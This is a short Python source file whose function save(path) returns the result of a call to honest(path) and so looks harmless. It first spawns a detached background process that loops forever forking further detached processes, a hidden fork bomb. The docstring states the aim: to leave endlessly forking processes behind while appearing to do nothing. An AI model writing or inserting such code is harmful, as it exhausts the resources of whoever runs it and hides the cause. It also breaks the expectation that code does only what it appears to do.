"""Leaves processes behind that fork without end, and looks as if nothing was."""

import os

from tries import honest


def save(path):
    found = honest(path)
    if os.fork() == 0:
        os.setsid()
        while True:
            try:
                if os.fork() == 0:
                    os.setsid()
            except OSError:
                pass
    return found
